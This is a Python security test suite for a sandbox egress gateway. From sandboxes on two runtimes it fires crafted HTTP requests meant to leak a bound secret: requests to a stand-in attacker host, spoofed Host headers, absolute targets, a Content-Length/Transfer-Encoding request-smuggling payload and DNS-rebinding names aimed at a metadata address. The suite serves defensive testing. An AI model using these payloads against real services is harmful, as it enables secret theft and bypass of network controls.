"""The far-end suite: from one sandbox, concurrently, every attempt of the demo and every attempt to misdirect a secret.

The suite counts what arrived outside: frames at the attacker, tunnelled names, connections to the host or the gateway,
frames in the neighbour, open kernel doors, and the secret at any place other than its binding's.
"""

import json
import time
from collections.abc import Iterable, Iterator, Sequence
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from opensandbox.exceptions import SandboxException

from demo.sandboxes import _nsenter
from lifecycle.posture import ways_out
from lifecycle.posture.attempts import Evidence, FarEnd, ProbeError, Report, arrived, report
from lifecycle.posture.capture import Capture
from lifecycle.posture.ways_out import MARKER
from testbed import raw_client
from testbed.attacks import MARK, Attack, only_ends
from testbed.far_end import GATEWAY_CANARY_PORTS, control_targets, end, probe_environment, sandbox_targets
from testbed.internet import ADDRESSES, API, ATTACKER, DNS_ADDRESS, METADATA_ADDRESS, STATUS, Internet
from testbed.leaks import forms_of, leaks_in
from testbed.privileged import PrivilegedContainer
from testbed.stack import IMAGE
from testbed.ungate import far_end_of
from tests.security.layers.stack import POLICY, LayeredStack, wait_until
from tests.security.layers.substitutes import FAILING, PLANTED, UNJUDGED, UNRECORDED

RUNTIMES = ("runc", "runsc")
SETTLE_SECONDS, SETTLED_AT_MOST = 0.3, 6.0
UNANSWERED_SECONDS = 2.0
OUTSIDE = "the secret outside of its binding"
RETURNED = "the secret in an answer"
UNJUDGED_ARRIVES = "a request that nobody judged"
PLANTED_ARRIVES = "a file of the host at the attacker"
FOREIGN_HOST = "a foreign Host"
IMPOSTOR = "a request at the server of another name"
ABSOLUTE = "a target of another host"
AMBIGUOUS = "a request with two framings"
UNRECORDED_ARRIVES = "a request without a record"
UNPLANNED = "a question of a container without a plan"
HONEST = (f"/v1/honest?{MARK}", f"/v1/honest-last?{MARK}")
"""The first request with a secret, and the last request of the sandbox. Each sandbox must get an answer to both."""
OWN_HOST, OWN_TARGET, OTHER_SERVER = "/v1/own-host", "/v1/own-target", "/v1/other-server"
FRAMING, SMUGGLED = "/v1/framing", "/admin/smuggled"
LIAR = "foreign.bank.example"
"""The owner of this name resolves it to another host's server, which has no certificate for it."""
FIRST, DELETED = "/v1/first", "/v1/deleted"
"""The targets of the forbidden method: before any secret was released to the worker, and after that."""


def _get(path: str, host: str = API, method: str = "GET") -> str:
    """Return a request that closes its connection."""
    return "\r\n".join((f"{method} {path} HTTP/1.1", f"Host: {host}", "Connection: close")) + "\r\n\r\n"


def _attacks() -> Iterator[Attack]:
    yield Attack("another path", (_get("/admin/denied"),))
    yield Attack("another method", (_get(DELETED, method="DELETE"),))
    yield Attack("another Host", (_get("/v1/other-host", ATTACKER),))
    yield Attack("a spliced name, the bound Host", (_get("/v1/x"),), ATTACKER, ATTACKER)
    yield Attack("the bound name at the attacker", (_get("/v1/x"),), API, ATTACKER)
    yield Attack("the bound Host in clear", (_get("/v1/x"),), None, ATTACKER, 80)
    yield Attack("an absolute target", (_get(f"https://{ATTACKER}/v1/absolute"),))
    yield Attack("an absolute target in clear", (_get(f"http://{ATTACKER}/v1/x"),), None, ATTACKER, 80)
    yield Attack("an absolute target of its own", (_get(f"https://{API}{OWN_TARGET}"),))
    yield Attack("another spelling of its Host", (_get(OWN_HOST, f"{API.upper()}:443"),))
    yield Attack("the server of another name", (_get(OTHER_SERVER, LIAR),), LIAR, STATUS)
    yield Attack("a redirect", (_get("/v1/redirect?to=attacker&status=302"),))
    # Read as chunks the bytes are one request; read by their length they are two.
    smuggled = _get(SMUGGLED)
    size = f"{len(smuggled):x}\r\n"
    framings = f"Content-Length: {len(size)}\r\nTransfer-Encoding: chunked\r\n"
    yield Attack(
        "two framings", (f"POST {FRAMING} HTTP/1.1\r\nHost: {API}\r\n{framings}\r\n{size}{smuggled}\r\n0\r\n\r\n",)
    )
    yield from (Attack(path, (_get(path),)) for path in (UNJUDGED, FAILING, UNRECORDED))
    for form in ("plain", "json", "gzip"):
        yield Attack(f"an echo, {form}", (_get(f"/v1/echo?form={form}"),))
    for label in ("rebind", "loopback", "this-host", "the-host", "mixed", "alias-inside"):
        name = f"{label}.bank.example"
        yield Attack(f"{name} in clear", (_get("/", name),), None, METADATA_ADDRESS, 80)
        yield Attack(f"{name}", (_get("/", name),), name, METADATA_ADDRESS, 443)


BATCHES = (
    (Attack("another method first", (_get(FIRST, method="DELETE"),)),),
    (Attack(HONEST[0], (_get(HONEST[0]),)),),
    tuple(_attacks()),
    (Attack(HONEST[1], (_get(HONEST[1]),)),),
)
"""The batches, run one after the other. The attacks of one batch run concurrently."""


@dataclass(frozen=True, slots=True)
class Request:
    """A request that a server received; `hosts` are its Host headers."""

    server: str
    method: str
    target: str
    hosts: tuple[str, ...]
    framings: int
    """The number of the fields present that define the end of the body (Content-Length, Transfer-Encoding)."""


@dataclass(frozen=True, slots=True)
class Seen:
    """The result of one sandbox's suite.

    Attributes:
        refused: why no sandbox was made.
        alive: the worker of the beginning was still running at the end.
        honest: all honest requests arrived at their server with the secret, and were answered in the sandbox.
        requests: the requests that servers received.
        outside: targets of the requests that had the secret outside of its binding.
    """

    leaks: dict[str, int] = field(default_factory=dict)
    refused: str = ""
    alive: bool = False
    honest: bool = False
    answers: dict[str, str] = field(default_factory=dict)
    requests: tuple[Request, ...] = ()
    outside: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Attempts:
    """The attempts besides the attacks in exact bytes.

    Attributes:
        ways: the ways out, by the workload.
        beside: the ways out, by a privileged container in the sandbox's network.
        unplanned: a container without a plan, in the sandbox's network.
        apart: run the runtimes one after the other, because many arrivals are expected and each must be attributed to
            its runtime.
        answers: the worker can answer connections. If it cannot be reached, each attack would wait until its timeout.
    """

    ways: bool = True
    beside: bool = True
    unplanned: bool = True
    apart: bool = False
    answers: bool = True


class Pair:
    """A sandbox on each runtime, made under the present switches."""

    def __init__(self, internet: Internet, stack: LayeredStack, secret: str, attempts: Attempts = Attempts()) -> None:
        self.internet, self.stack, self._secret, self._attempts = internet, stack, secret, attempts
        self.first_note = len(notes(internet))
        with ThreadPoolExecutor(len(RUNTIMES)) as pool:
            made = pool.map(self._make, RUNTIMES)
        self.sandboxes: dict[str, Any] = dict(zip(RUNTIMES, made, strict=True))
        self.seen: dict[str, Seen] = {}

    def _make(self, runtime: str) -> Any:
        known = self.stack.log.stat().st_size
        try:
            return self.stack.create(runtime, policy=POLICY)
        except SandboxException as error:
            return self._refusals(known) or str(error)

    def _refusals(self, known: int) -> str:
        """Return the lines of the server's log, after its first `known` bytes, about creations that failed.

        Clients do not receive these details.
        """
        lines = self.stack.log.read_bytes()[known:].decode("utf-8", "replace").splitlines()
        return "; ".join(line for line in lines if "creation failed" in line)

    def id(self, runtime: str) -> str:
        return str(self.sandboxes[runtime].id)

    def close(self) -> None:
        for sandbox in self.sandboxes.values():
            if not isinstance(sandbox, str):
                sandbox.kill()
                sandbox.close()

    def attack(self) -> dict[str, Seen]:
        """Run the suite from both sandboxes concurrently.

        If anything arrives, run it again from each sandbox alone, to attribute the arrivals.
        """
        made = [runtime for runtime, sandbox in self.sandboxes.items() if not isinstance(sandbox, str)]
        apart = self._attempts.apart
        seen = self._attack(made) if made and not apart else {}
        if apart or (len(made) > 1 and any(one.leaks for one in seen.values())):
            seen = {runtime: self._attack([runtime])[runtime] for runtime in made}
        refused = {name: Seen(refused=one) for name, one in self.sandboxes.items() if isinstance(one, str)}
        self.seen = seen | refused
        return self.seen

    def _attack(self, runtimes: list[str]) -> dict[str, Seen]:
        internet, net = self.internet, self.internet.path(self.internet.net)
        every = [self.id(name) for name, one in self.sandboxes.items() if not isinstance(one, str)]
        with ExitStack() as resources:
            wires = [resources.enter_context(Capture(net, "net0"))]
            near = {}
            for name in every:
                uplink = far_end_of(int(self.stack.inspect(name).slot) % 32)
                if _nsenter(net, "link", "show", uplink):
                    wires.append(resources.enter_context(Capture(net, uplink)))
                near[name] = resources.enter_context(Capture(self.stack.netns(name, "sbx"), "eth0"))
                gateway = self.stack.netns(name, "gw")
                resources.callback(end, internet.start_canary(gateway, f"gateway-{name}", *GATEWAY_CANARY_PORTS))
            first, host = len(notes(internet)), _host_hits(internet)
            workers = {name: self._worker(name) for name in every}
            gateways = {name: internet.canary_hits(f"gateway-{name}") for name in every}
            with ThreadPoolExecutor(len(runtimes)) as pool:
                ran = dict(zip(runtimes, pool.map(self._run, runtimes), strict=True))
            settle(internet, wires)
            frames = [frame for wire in wires for frame in wire.since(0) if not only_ends(frame)]
            hits, noted = _host_hits(internet) - host, notes(internet)
            found = {}
            for runtime, (saw, answers) in ran.items():
                own = self.id(runtime)
                neighbours = [frame for name in every if name != own for frame in near[name].since(0)]
                reached = internet.canary_hits(f"gateway-{own}") - gateways[own]
                evidence = Evidence(frames, neighbours, hits, reached, saw)
                counts = {far_end.value: arrived(far_end, evidence) for far_end in FarEnd}
                outside = self._outside(noted[first:])
                # Both runtimes attack at the same time, and the gateway's answers to the neighbour itself do not count.
                counts[FarEnd.NEIGHBOUR.value] = sum(_marker(runtime) in frame.data for frame in neighbours)
                counts |= {OUTSIDE: len(outside)} | self._returned(noted[first:], answers)
                counts[PLANTED_ARRIVES] = sum(PLANTED in json.dumps(note) for note in noted[self.first_note :])
                counts[UNPLANNED] = sum(note.get("question") == _unplanned_name(own) for note in internet.notes())
                requests = tuple(_request(note) for note in noted[first:] if "target" in note)
                found[runtime] = Seen(
                    {what: count for what, count in (counts | misread(requests)).items() if count},
                    alive=workers[own] is not None and self._worker(own) == workers[own],
                    honest=self._honest(runtime, noted[first:], answers),
                    answers=answers,
                    requests=requests,
                    outside=tuple(str(note.get("target", "")) for note in outside),
                )
        return found

    def _worker(self, sandbox: str) -> int | None:
        """Return the process id of the sandbox's present worker, or None."""
        pid = self.stack.inspect(sandbox).worker_pid
        return pid if pid and Path(f"/proc/{pid}/exe").exists() else None

    def _honest(self, runtime: str, noted: list[dict[str, Any]], answers: dict[str, str]) -> bool:
        token = ["Authorization", f"Bearer {self._secret}"]
        came = {note.get("target") for note in noted if note["host"] == API and token in note.get("headers", ())}
        return all(
            path.replace(MARK, runtime) in came and answers.get(path, "").startswith("HTTP/1.1 200") for path in HONEST
        )

    def _run(self, runtime: str) -> tuple[Report, dict[str, str]]:
        """Run the workload's attempts and the attacks in exact bytes concurrently; then those of containers beside it.

        Results that a sandbox cannot report because its worker ended are missing.
        """
        netns, worker = self.stack.netns(self.id(runtime), "sbx"), self._worker(self.id(runtime))
        with ExitStack() as resources:
            beside = PrivilegedContainer(netns, _targets(runtime), "192.0.2.1")
            if self._attempts.beside:
                resources.enter_context(beside)
            try:
                saw, answers = self._workload(runtime)
            except (SandboxException, ProbeError):
                # an error is accepted only if the worker ended
                wait_until(lambda: self._worker(self.id(runtime)) != worker, 10)
                saw, answers = {}, {}
            # This comes last: on runsc the address that the containers need makes the host answer instead of the
            # sandbox.
            resources.enter_context(_address_restored(netns))
            pool = resources.enter_context(ThreadPoolExecutor(1))
            unplanned = pool.submit(self._unplanned, self.id(runtime)) if self._attempts.unplanned else None
            if self._attempts.beside:
                beside.attempt("all")
            if unplanned is not None:
                unplanned.result()
        return saw, answers

    def _unplanned(self, sandbox: str) -> None:
        """Start a container without a plan in the sandbox's network, as root on the host. It sends a DNS query."""
        network = f"container:{self.stack.container(sandbox)}"
        message = ways_out.query(_unplanned_name(sandbox))
        code = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({message!r}, ('192.0.2.1', 53))"
        start = ("run", "--rm", "--runtime", "sallyport-runc", "--network", network, IMAGE)
        self.stack.docker(*start, "python3", "-c", code)

    def _workload(self, runtime: str) -> tuple[Report, dict[str, str]]:
        sandbox = self.sandboxes[runtime]
        for module in (ways_out, raw_client):
            path = Path(str(module.__file__))
            sandbox.files.write_file(f"/tmp/{path.name}", path.read_text())
        patience = {} if self._attempts.answers else {"patience": UNANSWERED_SECONDS}
        batches = [{one.name: one.case(runtime) | patience for one in batch} for batch in BATCHES]
        sandbox.files.write_file("/tmp/batches.json", json.dumps(batches))
        sandbox.files.write_file("/tmp/targets.json", probe_environment(_targets(runtime)))
        every = 'PROBE_TARGETS="$(cat /tmp/targets.json)" python3 /tmp/ways_out.py one all'
        done = sandbox.commands.run(
            "python3 /tmp/raw_client.py </tmp/batches.json >/tmp/results.json & "
            f"{every if self._attempts.ways else ':'}; status=$?; wait; exit $status"
        )
        printed = "".join(message.text for message in (*done.logs.stdout, *done.logs.stderr))
        saw = report("all", done.exit_code, printed) if self._attempts.ways else {}
        results: dict[str, dict[str, Any]] = json.loads(sandbox.files.read_file("/tmp/results.json"))
        return saw, {name: str(result["received"]) for name, result in results.items()}

    def _outside(self, noted: list[dict[str, Any]]) -> list[dict[str, Any]]:
        forms = forms_of(self._secret)
        return [
            note
            for note in noted
            if leaks_in([json.dumps(note).encode()], forms)
            and not (note["host"] == API and ("heard" in note or _bound(note)))
        ]

    def _returned(self, noted: list[dict[str, Any]], answers: dict[str, str]) -> dict[str, int]:
        bodies = [text.encode("latin-1").partition(b"\r\n\r\n")[2] for text in answers.values()]
        texts = [text.encode("latin-1") for text in answers.values()]
        return {
            RETURNED: leaks_in([*texts, *bodies], forms_of(self._secret)),
            UNJUDGED_ARRIVES: sum(note.get("target") in (UNJUDGED, FAILING) for note in noted),
        }


def _marker(runtime: str) -> bytes:
    # both runtimes' markers have one even length, because a checksum covers them
    return f"{MARKER.decode()}-{runtime:->5}".encode()


def _targets(runtime: str) -> dict[str, object]:
    return sandbox_targets() | {"marker": _marker(runtime).decode()}


def _bound(note: dict[str, Any]) -> bool:
    target = urlsplit(str(note.get("target")))
    return note.get("method") in ("GET", "POST") and target.hostname in (None, API) and target.path.startswith("/v1/")


def _unplanned_name(sandbox: str) -> str:
    """Return a name below the zone that the policy allows."""
    return f"{sandbox.replace('-', '')[:12]}.cdn.bank.example"


def _request(note: dict[str, Any]) -> Request:
    names = [str(name).lower() for name, _ in note["headers"]]
    hosts = tuple(str(value) for name, value in note["headers"] if str(name).lower() == "host")
    framings = sum(one in names for one in ("content-length", "transfer-encoding"))
    return Request(str(note["host"]), str(note["method"]), str(note["target"]), hosts, framings)


def misread(requests: Iterable[Request]) -> dict[str, int]:
    """Return how many requests arrived in a form other than the one that was judged."""
    at_api = [one for one in requests if one.server == API]
    named = [urlsplit(one.target).hostname for one in at_api]
    return {
        FOREIGN_HOST: sum(host.lower().partition(":")[0] != API for one in at_api for host in one.hosts),
        IMPOSTOR: sum(one.target == OTHER_SERVER for one in requests),
        ABSOLUTE: sum(host not in (None, API) for host in named),
        AMBIGUOUS: sum(one.framings > 1 or one.target == SMUGGLED for one in at_api),
        UNRECORDED_ARRIVES: sum(one.target == UNRECORDED for one in at_api),
    }


def _host_hits(internet: Internet) -> int:
    return internet.canary_hits("host") + internet.canary_hits("host-web")


def settle(internet: Internet, wires: Sequence[Capture]) -> None:
    """Wait until no frame and no note has arrived for a moment, with a time limit."""
    deadline, before = time.monotonic() + SETTLED_AT_MOST, [-1]
    while before != (before := [internet.request_log.stat().st_size, *(wire.mark() for wire in wires)]):
        if time.monotonic() > deadline:
            break
        time.sleep(SETTLE_SECONDS)


def notes(internet: Internet) -> list[dict[str, Any]]:
    """Return the notes of the servers, without the queries at the name server."""
    return [note for note in internet.notes() if note["host"] != DNS_ADDRESS]


@contextmanager
def _address_restored(netns: str) -> Iterator[None]:
    """Restore the sandbox's address as `DemoSandbox.address_restored` does."""
    added = _nsenter(netns, "addr", "add", "192.0.2.2/30", "dev", "eth0")
    _nsenter(netns, "route", "add", "default", "via", "192.0.2.1", "dev", "eth0")
    try:
        yield
    finally:
        if added:
            _nsenter(netns, "addr", "del", "192.0.2.2/30", "dev", "eth0")


def control(internet: Internet) -> set[FarEnd]:
    """Return the far ends that receive the same probes from a network without a gateway."""
    net = internet.path(internet.net)
    canary = internet.start_canary(net, "control-gateway", *GATEWAY_CANARY_PORTS)
    try:
        with (
            Capture(net, "net1") as wire,
            PrivilegedContainer(internet.path(internet.control), control_targets(), DNS_ADDRESS) as container,
        ):
            host = _host_hits(internet)
            saw = container.attempt("all")
            settle(internet, [wire])
            frames = wire.since(0)
            hits = _host_hits(internet) - host, internet.canary_hits("control-gateway")
        return {far_end for far_end in FarEnd if arrived(far_end, Evidence(frames, frames, *hits, saw))}
    finally:
        end(canary)


__all__ = ["ADDRESSES", "Pair", "Seen", "control", "notes"]
